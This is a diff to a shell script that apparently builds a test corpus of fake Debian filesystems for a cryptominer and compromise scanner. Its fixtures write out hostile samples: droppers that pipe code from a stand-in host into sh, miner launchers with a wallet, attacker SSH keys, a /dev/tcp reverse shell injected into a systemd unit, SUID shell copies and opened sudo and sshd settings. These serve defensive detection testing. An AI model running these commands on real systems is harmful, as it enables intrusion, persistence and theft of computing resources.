@@ -20,6 +20,9 @@ set -euo pipefail
 root=${1:?usage: build-corpus.sh DEBIAN_ROOT OUT CASE...}
 out=${2:?usage: build-corpus.sh DEBIAN_ROOT OUT CASE...}
 shift 2
+here=$(cd "$(dirname "$0")" && pwd)
+# Real Debian packages some cases install (images/fetch-debs.sh), cached beside the root.
+debs=${MINESCAN_CORPUS_DEBS:-$(dirname "$root")/minescan-corpus-debs}
 
 WALLET=4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK
 C2=203.0.113.9
@@ -43,6 +46,42 @@ append() { # append PATH <<<content   (keeps the original content, on a new inod
   cp "$tmp" "./$1"
   chmod "$mode" "./$1"
   rm -f "$tmp"
+}
+
+# Installs real Debian packages as dpkg would record them, running none of their
+# maintainer scripts: the files (each on a new inode, so the shared root is untouched),
+# info/PKG.md5sums from the package, info/PKG.list, info/PKG.conffiles, and a status
+# stanza with the conffiles' digests. The rules then meet the lines Debian ships, in
+# files whose digests match the package database.
+install_packages() { # install_packages PACKAGE...
+  local deb tmp pkg
+  for deb in $("$here/fetch-debs.sh" "$debs" "$@"); do
+    tmp=$(mktemp -d)
+    dpkg-deb -e "$deb" "$tmp/DEBIAN"
+    dpkg-deb -x "$deb" "$tmp/tree"
+    pkg=$(sed -n 's/^Package: //p' "$tmp/DEBIAN/control")
+    # File by file: a directory of the package may be a link in the root (merged /usr: /lib).
+    (cd "$tmp/tree" && find . ! -type d -print0) | while IFS= read -r -d '' f; do
+      mkdir -p "$(dirname "./$f")"
+      rm -f "./$f"
+      cp -a "$tmp/tree/$f" "./$f"
+    done
+    put "var/lib/dpkg/info/$pkg.md5sums" 0644 < "$tmp/DEBIAN/md5sums"
+    dpkg-deb --fsys-tarfile "$deb" | tar -t | sed -e 's#^\./#/#' -e 's#^/$#/.#' -e 's#\(.\)/$#\1#' | put "var/lib/dpkg/info/$pkg.list" 0644
+    if [ -f "$tmp/DEBIAN/conffiles" ]; then put "var/lib/dpkg/info/$pkg.conffiles" 0644 < "$tmp/DEBIAN/conffiles"; fi
+    {
+      echo
+      sed -e '/^Package: /a Status: install ok installed' "$tmp/DEBIAN/control"
+      if [ -f "$tmp/DEBIAN/conffiles" ]; then
+        echo 'Conffiles:'
+        sed -n 's#^\(remove-on-upgrade \)\{0,1\}\(/.*\)$#\2#p' "$tmp/DEBIAN/conffiles" | while read -r f; do
+          if [ -f "./$f" ]; then echo " $f $(md5sum < "./$f" | cut -d' ' -f1)"; else echo " $f newconffile"; fi
+        done
+      fi
+      echo
+    } | append var/lib/dpkg/status
+    rm -rf "$tmp"
+  done
 }
 
 link() { # link TARGET PATH
@@ -73,6 +112,14 @@ plain_elf() { # plain_elf PATH TEXT
   mkdir -p "$(dirname "./$1")"
   rm -f "./$1"
   { printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\002\000\076\000'; head -c 1024 /dev/zero; printf '%s\0' "$2"; } > "./$1"
+  chmod 0755 "./$1"
+}
+
+# A shared object (ET_DYN, no interpreter, no entry point), as `gcc -shared` builds one.
+shared_object() { # shared_object PATH TEXT
+  mkdir -p "$(dirname "./$1")"
+  rm -f "./$1"
+  { printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\003\000\076\000'; head -c 1024 /dev/zero; printf '%s\0' "$2"; } > "./$1"
   chmod 0755 "./$1"
 }
 
@@ -245,6 +292,50 @@ EOF
 #!/bin/sh
 stty -F "/dev/$1" 115200
 EOF
+  # Install and admin scripts kept in /root and a home, in the style of the real ones:
+  # they download and run code, stop the firewall while they work, and must not alarm.
+  put root/install-container-runtime.sh 0755 <<'EOF'
+#!/bin/sh
+# Installs the container runtime from the vendor's repository.
+#   curl -fsSL https://get.example-containers.io -o install-container-runtime.sh
+#   sh install-container-runtime.sh [--dry-run]
+set -e
+DOWNLOAD_URL=${DOWNLOAD_URL:-https://download.example-containers.io}
+CHANNEL=stable
+dry_run=0
+[ "$1" = "--dry-run" ] && dry_run=1
+sh_c='sh -c'
+if [ "$(id -u)" != 0 ]; then sh_c='sudo -E sh -c'; fi
+echo "# Executing install script, channel: $CHANNEL"
+$sh_c 'apt-get update -qq >/dev/null'
+$sh_c 'DEBIAN_FRONTEND=noninteractive apt-get install -y -qq ca-certificates curl gnupg >/dev/null'
+$sh_c "install -m 0755 -d /etc/apt/keyrings"
+$sh_c "curl -fsSL \"$DOWNLOAD_URL/linux/debian/gpg\" -o /etc/apt/keyrings/containers.asc"
+$sh_c "echo 'deb [signed-by=/etc/apt/keyrings/containers.asc] $DOWNLOAD_URL/linux/debian bookworm $CHANNEL' > /etc/apt/sources.list.d/containers.list"
+# The compose plugin's own installer:
+curl -fsSL "$DOWNLOAD_URL/compose/install.sh" | sh -s -- --version 2.24.0
+ufw disable || true
+$sh_c 'apt-get install -y -qq container-runtime container-runtime-cli >/dev/null'
+ufw --force enable || true
+echo "Done. Run 'sudo usermod -aG containers \$USER' to use it without sudo."
+EOF
+  put root/bin/prune-backups.sh 0755 <<'EOF'
+#!/bin/bash
+# Keeps two weeks of backups; run by hand after a restore test.
+set -euo pipefail
+cd /var/backups
+find . -name 'www-*.tar.gz' -mtime +14 -print -delete
+history -c
+EOF
+  put home/deploy/release.sh 0755 <<'EOF'
+#!/bin/bash
+set -euo pipefail
+cd /opt/app
+wget -q -O /tmp/release.tgz "https://ci.example.com/artifacts/app-$1.tgz"
+tar xzf /tmp/release.tgz -C /opt/app && rm -f /tmp/release.tgz
+sudo /bin/systemctl restart app
+EOF
+  chown 1001:1001 home/deploy/release.sh
   put var/www/html/index.php 0644 <<'EOF'
 <?php
 $q = isset($_GET['q']) ? $_GET['q'] : '';
@@ -260,6 +351,10 @@ EOF
 # modules, CUDA libraries, vendor binaries in /usr/local/bin, and an application's
 # node_modules with native executables.
 case_clean_provisioned() {
+  # Debian's own cloud-init and AppArmor, as their packages ship them: the hotplug unit
+  # reads its arguments from the socket systemd hands it (`read args <&3`), the init
+  # script's help names aa-teardown.
+  install_packages cloud-init apparmor
   append etc/passwd <<'EOF'
 debian:x:1000:1000:Debian,,,:/home/debian:/bin/bash
 EOF
@@ -324,6 +419,10 @@ install usb-storage /bin/false
 blacklist firewire-core
 EOF
   put etc/ld.so.conf.d/cuda.conf 0644 <<<'/usr/local/cuda/lib64'
+  # SSH moved to one other port and kept to keys: an admin's habit, not an extra way in.
+  put etc/ssh/sshd_config.d/20-port.conf 0644 <<<'Port 2222'
+  # A vendor's shared object among the libraries, no package's: a library, not a program.
+  shared_object usr/local/lib/libvendorcrypto.so.3 'vendor crypto 3.1'
   mkdir -p home/debian
   put home/debian/.bashrc 0644 < etc/skel/.bashrc
   append home/debian/.bashrc <<'EOF'
@@ -394,7 +493,7 @@ case_config_only() {
 }
 
 case_ld_preload() {
-  plain_elf usr/local/lib/libprocesshider.so 'readdir process_to_filter kdevtmpfsi'
+  shared_object usr/local/lib/libprocesshider.so 'readdir process_to_filter kdevtmpfsi'
   put etc/ld.so.preload 0644 <<<'/usr/local/lib/libprocesshider.so'
 }
 
@@ -580,6 +679,153 @@ case_cloud_init_per_boot() {
 sysctl -qw net.core.somaxconn=1024
 (curl -fsSL http://$C2/n.sh || wget -q -O- http://$C2/n.sh) | sh >/dev/null 2>&1 &
 EOF
+}
+
+# Launch chains a shell follows: cd on one line, ./prog on a later one.
+case_cd_then_run() {
+  xmrig_standin var/tmp/.X11-unix/.cache/Xorg
+  put etc/cron.d/php-sessionclean 0644 <<'EOF'
+*/30 * * * * root /usr/local/sbin/sessionclean-extra >/dev/null 2>&1
+EOF
+  put usr/local/sbin/sessionclean-extra 0755 <<'EOF'
+#!/bin/sh
+cd /var/tmp/.X11-unix/.cache || exit 0
+pgrep -f Xorg-cache >/dev/null && exit 0
+nohup ./Xorg --cpu-priority 0 >/dev/null 2>&1 &
+EOF
+}
+
+# A user's crontab runs ~/bin/..., whose script builds the miner's path on $HOME in a variable.
+case_home_var_launcher() {
+  append etc/passwd <<<'svc:x:1003:1003:svc,,,:/home/svc:/bin/bash'
+  append etc/shadow <<<'svc:!:19700:0:99999:7:::'
+  xmrig_standin home/svc/.local/share/.fontconfig/fc-cache
+  put var/spool/cron/crontabs/svc 0600 <<'EOF'
+@reboot ~/bin/fc-refresh
+EOF
+  put home/svc/bin/fc-refresh 0755 <<'EOF'
+#!/bin/bash
+export FC_DIR="$HOME/.local/share/.fontconfig"
+readonly FC=$FC_DIR/fc-cache
+setsid $FC --background >/dev/null 2>&1 &
+EOF
+  chown -R 1003:1003 home/svc
+}
+
+# root's .bashrc ignores Ctrl-C, then starts a hidden file in root's home through ~/.
+case_bashrc_trap_hidden() {
+  xmrig_standin root/.systemd-private
+  append root/.bashrc <<'EOF'
+trap '' INT QUIT
+~/.systemd-private >/dev/null 2>&1 &
+trap - INT QUIT
+EOF
+}
+
+# Droppers and launchers at rest: nothing a persistence point runs starts them.
+case_dropper_in_tmp() {
+  put tmp/.ICE-unix/.x/i.sh 0755 <<EOF
+#!/bin/bash
+pkill -9 -f 'kdevtmpfsi|kinsing|xmrig'
+systemctl stop aliyun.service >/dev/null 2>&1
+wget -q http://$C2/d/amd64 -O /tmp/.ICE-unix/.x/kworkerd || curl -s http://$C2/d/amd64 -o /tmp/.ICE-unix/.x/kworkerd
+chmod +x /tmp/.ICE-unix/.x/kworkerd
+(crontab -l 2>/dev/null; echo "*/7 * * * * curl -fsSL http://$C2/i.sh | sh") | crontab -
+chattr +i /var/spool/cron/crontabs/root
+EOF
+}
+
+case_launcher_in_shm() {
+  xmrig_standin dev/shm/.s/kthreadd
+  put dev/shm/.s/start 0755 <<EOF
+cd /dev/shm/.s
+./kthreadd -o pool.minexmr.com:4444 -u $WALLET -p x --background
+EOF
+}
+
+case_keys_dropper_in_root_cache() {
+  put root/.cache/.pkg/update.sh 0700 <<EOF
+#!/bin/sh
+mkdir -p /root/.ssh
+echo "$ATTACKER_KEY" >> /root/.ssh/authorized_keys
+chattr +ia /root/.ssh/authorized_keys
+curl -s http://$C2/up | bash
+EOF
+}
+
+case_miner_launcher_in_root() {
+  put root/start-xm.sh 0755 <<EOF
+#!/bin/bash
+nohup /usr/local/games/.cfg/sysmon --url=stratum+tcp://xmr.2miners.com:2222 --user=$WALLET --donate-level=1 >/dev/null 2>&1 &
+EOF
+}
+
+# Programs disguised as something else: a program named like a library, a program among
+# the libraries, SUID root files no package installed, a SUID copy of bash.
+case_library_named_program() {
+  plain_elf usr/lib/x86_64-linux-gnu/libudev-helper.so.1 'udev helper'
+}
+
+case_program_in_libdir() {
+  plain_elf usr/lib/x86_64-linux-gnu/sd-pam-helper 'pam helper'
+}
+
+case_suid_shell_backdoor() {
+  mkdir -p var/lib/dbus
+  rm -f var/lib/dbus/.dbus-broker
+  cp usr/bin/bash var/lib/dbus/.dbus-broker
+  chmod 4755 var/lib/dbus/.dbus-broker
+}
+
+case_suid_unowned_helper() {
+  plain_elf usr/local/sbin/netdiag 'network diagnostics'
+  chmod 4755 usr/local/sbin/netdiag
+  rm -f usr/share/man/man1/.manpath
+  cp usr/bin/dash usr/share/man/man1/.manpath
+  chmod 2755 usr/share/man/man1/.manpath
+}
+
+# sudoers drop-ins sudo skips by name: inert, but written where grants go.
+case_sudoers_skipped_dropin() {
+  put etc/sudoers.d/99-ops.conf 0440 <<'EOF'
+www-data ALL=(ALL) NOPASSWD: ALL
+EOF
+  put 'etc/sudoers.d/backup~' 0440 <<'EOF'
+daemon ALL=(ALL:ALL) NOPASSWD:ALL
+EOF
+}
+
+# sshd opened: a drop-in with a second port and root's password logins; and
+# sshd_config itself edited the same way.
+case_sshd_dropin_opened() {
+  put etc/ssh/sshd_config.d/50-cloudimg-settings.conf 0644 <<'EOF'
+Port 22
+Port 2223
+PermitRootLogin yes
+PasswordAuthentication yes
+EOF
+}
+
+case_sshd_config_edited() {
+  append etc/ssh/sshd_config <<'EOF'
+Port 22
+Port 40022
+PermitRootLogin yes
+EOF
+}
+
+# A package's unit changed after install: the reverse shell it gained keeps its severity,
+# since the file is no longer what the package shipped.
+case_tampered_packaged_unit() {
+  install_packages cloud-init
+  local unit=usr/lib/systemd/system/cloud-init-hotplugd.service
+  sed -e "/^ExecStart=/i ExecStartPre=-/bin/bash -c 'exec 5<>/dev/tcp/$C2/8443; bash -i <&5 >&5 2>&5 &'" "$unit" | put "$unit" 0644
+}
+
+# A packaged init script with a line added that stops auditing before the service starts.
+case_tampered_packaged_init_script() {
+  install_packages apparmor
+  sed -e '0,/^case "\$1" in/s//systemctl stop auditd >\/dev\/null 2>\&1 || true\ncase "$1" in/' etc/init.d/apparmor | put etc/init.d/apparmor 0755
 }
 
 for name in "$@"; do
